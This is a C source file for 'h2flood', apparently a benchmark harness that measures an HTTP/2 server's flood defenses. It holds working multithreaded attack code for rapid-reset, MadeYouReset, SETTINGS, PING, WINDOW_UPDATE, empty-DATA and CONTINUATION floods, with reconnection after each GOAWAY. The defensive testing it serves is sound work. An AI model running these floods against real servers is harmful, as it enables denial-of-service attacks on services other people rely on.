/*
 * h2flood — an HTTP/2 flood attacker that reconnects after every GOAWAY, for
 * bench/floodmem and by hand (man/bench.1 has bench; this tool's options are
 * its usage below).  Each of -c threads loops: connect (from -b's address),
 * TLS with ALPN h2 when -t, the preface, an empty SETTINGS and -n frames of
 * one kind at once, then read until the server's GOAWAY or close, close, and
 * again, until -d seconds have passed.  The kinds are the HTTP/2 floods a
 * server defends against per connection:
 *
 *   reset         HEADERS + RST_STREAM(CANCEL) per stream (rapid reset, CVE-2023-44487)
 *   madeyoureset  requests the server must reset itself (an upper-case field name)
 *   settings      empty SETTINGS frames (CVE-2019-9515)
 *   ping          PING frames (CVE-2019-9512)
 *   window        WINDOW_UPDATEs of 1 byte on the connection (data dribble, 9511)
 *   empty_data    an open request and empty DATA frames (CVE-2019-9518)
 *   continuation  a header block in 1-byte CONTINUATION frames (CVE-2024-28182)
 *
 * What the server let it do is printed as one JSON object: connections the
 * server answered, refused ones (closed before a byte, the TLS handshake
 * failed, or the connect), GOAWAYs and
 * how many said ENHANCE_YOUR_CALM, streams sent, streams the server took
 * (up to each GOAWAY's last stream id: what it processed) and responses
 * (HEADERS frames) it sent.  Blocking sockets, one per thread: a few dozen
 * threads reconnect thousands of times a second on loopback.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define MAX_FRAMES 100000
#define MAX_THREADS 1024

enum { K_RESET, K_MADE, K_SETTINGS, K_PING, K_WINDOW, K_EMPTY, K_CONT, K_KINDS };
static const char *const kind_name[K_KINDS] = {"reset",  "madeyoureset", "settings",
                                               "ping",   "window",       "empty_data",
                                               "continuation"};

static struct {
    int kind, threads, frames, tls;
    double secs;
    struct sockaddr_in dst, src;
    int has_src;
    char path[128];
    SSL_CTX *ctx;
    unsigned char *burst; /* the bytes every connection sends */
    size_t burst_len;
    int streams; /* streams the burst opens */
} opt;

static atomic_ulong n_conns, n_refused, n_goaways, n_calm, n_sent, n_taken, n_responses,
    n_errors;

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* A frame header and payload appended to b (which has room: see burst_new). */
static size_t put_frame(unsigned char *b, int type, int flags, uint32_t sid, const void *p,
                        size_t n)
{
    b[0] = (unsigned char)(n >> 16), b[1] = (unsigned char)(n >> 8), b[2] = (unsigned char)n;
    b[3] = (unsigned char)type, b[4] = (unsigned char)flags;
    b[5] = (unsigned char)(sid >> 24 & 0x7f), b[6] = (unsigned char)(sid >> 16);
    b[7] = (unsigned char)(sid >> 8), b[8] = (unsigned char)sid;
    if (n)
        memcpy(b + 9, p, n);
    return 9 + n;
}

/* A request's header block (HPACK): GET, http, the path, :authority a, and
   extra (a literal field, or nothing).  Returns its length (< cap). */
static size_t request_block(unsigned char *b, size_t cap, const char *extra, size_t xn)
{
    size_t pl = strlen(opt.path), n = 0;
    if (pl > 120 || 8 + pl + xn > cap)
        return 0;
    b[n++] = 0x82, b[n++] = 0x86; /* :method GET, :scheme http */
    b[n++] = 0x04, b[n++] = (unsigned char)pl; /* :path, literal without indexing */
    memcpy(b + n, opt.path, pl), n += pl;
    b[n++] = 0x41, b[n++] = 0x01, b[n++] = 'a'; /* :authority a */
    memcpy(b + n, extra, xn);
    return n + xn;
}

/* The burst of one kind: preface, SETTINGS, and opt.frames frames. */
static int burst_new(void)
{
    size_t cap = 64 + (size_t)opt.frames * 200 + 4096;
    unsigned char *b = malloc(cap), blk[256];
    if (!b)
        return -1;
    size_t n = 0;
    memcpy(b, PREFACE, 24), n = 24;
    n += put_frame(b + n, 4, 0, 0, NULL, 0);
    static const char bad[] = "\x00\x03X-A\x01" "b"; /* an upper-case name: malformed */
    char pad[80] = "\x00\x05x-pad\x40"; /* a field of 64 bytes, for CONTINUATIONs */
    memset(pad + 8, 'v', 64);
    static const unsigned char rst[4] = {0, 0, 0, 8}, one[4] = {0, 0, 0, 1};
    const char *extra = opt.kind == K_MADE ? bad : opt.kind == K_CONT ? pad : "";
    size_t xn = opt.kind == K_MADE ? sizeof bad - 1 : opt.kind == K_CONT ? 72 : 0;
    size_t bl = request_block(blk, sizeof blk, extra, xn);
    if (!bl)
        return free(b), -1;
    for (int i = 0; i < opt.frames; i++) {
        uint32_t sid = 2u * (uint32_t)i + 1;
        switch (opt.kind) {
        case K_RESET:
            n += put_frame(b + n, 1, 0x5, sid, blk, bl);
            n += put_frame(b + n, 3, 0, sid, rst, 4);
            opt.streams++;
            break;
        case K_MADE:
            n += put_frame(b + n, 1, 0x5, sid, blk, bl);
            opt.streams++;
            break;
        case K_SETTINGS: n += put_frame(b + n, 4, 0, 0, NULL, 0); break;
        case K_PING: n += put_frame(b + n, 6, 0, 0, "12345678", 8); break;
        case K_WINDOW: n += put_frame(b + n, 8, 0, 0, one, 4); break;
        case K_EMPTY:
            if (i == 0) {
                n += put_frame(b + n, 1, 0x4, 1, blk, bl); /* open, its body never comes */
                opt.streams++;
            }
            n += put_frame(b + n, 0, 0, 1, NULL, 0);
            break;
        case K_CONT: /* the block of one request, a byte per frame */
            if (i == 0) {
                size_t k = (size_t)opt.frames + 1 < bl ? (size_t)opt.frames + 1 : bl;
                n += put_frame(b + n, 1, 0, 1, blk, bl - k + 1); /* without END_HEADERS */
                for (size_t j = bl - k + 1; j < bl; j++)
                    n += put_frame(b + n, 9, j + 1 == bl ? 0x4 : 0, 1, blk + j, 1);
                opt.streams++;
            }
            break;
        }
    }
    opt.burst = b, opt.burst_len = n;
    return 0;
}

typedef struct peer {
    int fd;
    SSL *ssl;
} peer_t;

static long peer_write(peer_t *p, const unsigned char *b, size_t n)
{
    if (p->ssl) {
        int r = SSL_write(p->ssl, b, n > (1 << 30) ? 1 << 30 : (int)n);
        return r > 0 ? r : -1;
    }
    return send(p->fd, b, n, MSG_NOSIGNAL);
}

static long peer_read(peer_t *p, unsigned char *b, size_t n)
{
    if (p->ssl) {
        int r = SSL_read(p->ssl, b, (int)n);
        return r > 0 ? r : r == 0 || SSL_get_error(p->ssl, r) == SSL_ERROR_ZERO_RETURN ? 0 : -1;
    }
    return recv(p->fd, b, n, 0);
}

/* Connect (and handshake): 0, or -1 counted as refused or an error. */
static int peer_open(peer_t *p)
{
    p->ssl = NULL;
    if ((p->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) < 0)
        return atomic_fetch_add(&n_errors, 1), -1;
    struct timeval tv = {2, 0};
    setsockopt(p->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(p->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    int one = 1;
#ifdef IP_BIND_ADDRESS_NO_PORT
    setsockopt(p->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
#endif
    if ((opt.has_src && bind(p->fd, (struct sockaddr *)&opt.src, sizeof opt.src) < 0) ||
        connect(p->fd, (struct sockaddr *)&opt.dst, sizeof opt.dst) < 0) {
        close(p->fd);
        atomic_fetch_add(errno == ECONNREFUSED || errno == ECONNRESET ? &n_refused : &n_errors,
                         1);
        return -1;
    }
    if (!opt.tls)
        return 0;
    if (!(p->ssl = SSL_new(opt.ctx)) || !SSL_set_fd(p->ssl, p->fd) ||
        SSL_connect(p->ssl) != 1) {
        ERR_clear_error();
        SSL_free(p->ssl);
        close(p->fd);
        atomic_fetch_add(&n_refused, 1); /* closed at accept: the handshake fails */
        return -1;
    }
    return 0;
}

/* The server's frames until GOAWAY or close: what it let this connection do. */
static void read_answer(peer_t *p, int *got_any)
{
    static _Thread_local unsigned char buf[1 << 16];
    size_t have = 0;
    for (;;) {
        long r = peer_read(p, buf + have, sizeof buf - have);
        if (r <= 0)
            return;
        *got_any = 1;
        have += (size_t)r;
        size_t at = 0;
        while (have - at >= 9) {
            size_t len = (size_t)buf[at] << 16 | buf[at + 1] << 8 | buf[at + 2];
            if (len + 9 > sizeof buf) /* a frame larger than we keep: not ours to read */
                return;
            if (have - at < 9 + len)
                break;
            int type = buf[at + 3];
            if (type == 1)
                atomic_fetch_add(&n_responses, 1);
            if (type == 7 && len >= 8) {
                const unsigned char *g = buf + at + 9;
                uint32_t last = (uint32_t)(g[0] & 0x7f) << 24 | g[1] << 16 | g[2] << 8 | g[3];
                uint32_t code = (uint32_t)g[4] << 24 | g[5] << 16 | g[6] << 8 | g[7];
                atomic_fetch_add(&n_goaways, 1);
                atomic_fetch_add(&n_calm, code == 11);
                unsigned long took = last ? (last + 1) / 2 : 0;
                unsigned long most = (unsigned long)opt.streams;
                atomic_fetch_add(&n_taken, took < most ? took : most);
                return;
            }
            at += 9 + len;
        }
        memmove(buf, buf + at, have - at);
        have -= at;
    }
}

static void *attacker(void *arg)
{
    double end = *(double *)arg;
    while (now_s() < end) {
        peer_t p;
        if (peer_open(&p) < 0) {
            usleep(1000); /* refused: knock again at once, as an attacker would */
            continue;
        }
        size_t off = 0;
        while (off < opt.burst_len) {
            long w = peer_write(&p, opt.burst + off, opt.burst_len - off);
            if (w <= 0)
                break;
            off += (size_t)w;
        }
        atomic_fetch_add(&n_sent, (unsigned long)opt.streams);
        int got_any = 0;
        read_answer(&p, &got_any);
        atomic_fetch_add(got_any ? &n_conns : &n_refused, 1);
        SSL_free(p.ssl);
        close(p.fd);
    }
    return NULL;
}

static void usage(void)
{
    fputs("usage: h2flood [-k kind] [-c threads] [-n frames] [-d secs] [-b source] [-t]\n"
          "               [-p path] host port\n"
          "  -k kind     reset (default), madeyoureset, settings, ping, window, empty_data,\n"
          "              continuation\n"
          "  -c threads  connections at once, each reconnecting after its GOAWAY (default 8)\n"
          "  -n frames   frames of the kind per connection (default 500)\n"
          "  -d secs     how long (default 5)\n"
          "  -b source   the local IPv4 address to connect from\n"
          "  -t          TLS, ALPN h2 (the certificate is not checked)\n"
          "  -p path     the requests' path (default /)\n"
          "Prints one JSON object: what the server let it do.\n",
          stderr);
}

static int parse(int argc, char **argv)
{
    int c;
    opt.kind = K_RESET, opt.threads = 8, opt.frames = 500, opt.secs = 5;
    strcpy(opt.path, "/");
    while ((c = getopt(argc, argv, "k:c:n:d:b:tp:h")) != -1) {
        switch (c) {
        case 'k':
            for (opt.kind = 0; opt.kind < K_KINDS && strcmp(optarg, kind_name[opt.kind]);)
                opt.kind++;
            if (opt.kind == K_KINDS)
                return fprintf(stderr, "h2flood: no kind %s\n", optarg), -1;
            break;
        case 'c': opt.threads = atoi(optarg); break;
        case 'n': opt.frames = atoi(optarg); break;
        case 'd': opt.secs = atof(optarg); break;
        case 'b':
            opt.src.sin_family = AF_INET, opt.has_src = 1;
            if (inet_pton(AF_INET, optarg, &opt.src.sin_addr) != 1)
                return fprintf(stderr, "h2flood: -b %s: not an IPv4 address\n", optarg), -1;
            break;
        case 't': opt.tls = 1; break;
        case 'p':
            if (strlen(optarg) >= 120 || optarg[0] != '/')
                return fprintf(stderr, "h2flood: -p: a path of at most 119 bytes\n"), -1;
            strcpy(opt.path, optarg);
            break;
        default: return usage(), -1;
        }
    }
    if (argc - optind != 2 || opt.threads < 1 || opt.threads > MAX_THREADS || opt.frames < 1 ||
        opt.frames > MAX_FRAMES || !(opt.secs > 0) || opt.secs > 3600)
        return usage(), -1;
    opt.dst.sin_family = AF_INET;
    opt.dst.sin_port = htons((uint16_t)atoi(argv[optind + 1]));
    if (inet_pton(AF_INET, argv[optind], &opt.dst.sin_addr) != 1)
        return fprintf(stderr, "h2flood: %s: not an IPv4 address\n", argv[optind]), -1;
    return 0;
}

int main(int argc, char **argv)
{
    if (parse(argc, argv) < 0)
        return 2;
    signal(SIGPIPE, SIG_IGN);
    if (opt.tls) {
        static const unsigned char alpn[] = "\x02h2";
        if (!(opt.ctx = SSL_CTX_new(TLS_client_method())) ||
            SSL_CTX_set_alpn_protos(opt.ctx, alpn, sizeof alpn - 1))
            return fputs("h2flood: SSL_CTX_new() failed\n", stderr), 1;
        SSL_CTX_set_verify(opt.ctx, SSL_VERIFY_NONE, NULL);
    }
    if (burst_new() < 0)
        return fputs("h2flood: out of memory\n", stderr), 1;
    static pthread_t t[MAX_THREADS];
    double start = now_s(), end = start + opt.secs;
    int n = 0;
    for (; n < opt.threads; n++)
        if (pthread_create(&t[n], NULL, attacker, &end))
            break;
    for (int i = 0; i < n; i++)
        pthread_join(t[i], NULL);
    printf("{\"kind\":\"%s\",\"seconds\":%.2f,\"threads\":%d,\"connections\":%lu,"
           "\"refused\":%lu,\"errors\":%lu,\"goaways\":%lu,\"calm\":%lu,\"streams_sent\":%lu,"
           "\"streams_taken\":%lu,\"responses\":%lu}\n",
           kind_name[opt.kind], now_s() - start, n, atomic_load(&n_conns),
           atomic_load(&n_refused), atomic_load(&n_errors), atomic_load(&n_goaways),
           atomic_load(&n_calm), atomic_load(&n_sent), atomic_load(&n_taken),
           atomic_load(&n_responses));
    free(opt.burst);
    SSL_CTX_free(opt.ctx);
    return 0;
}
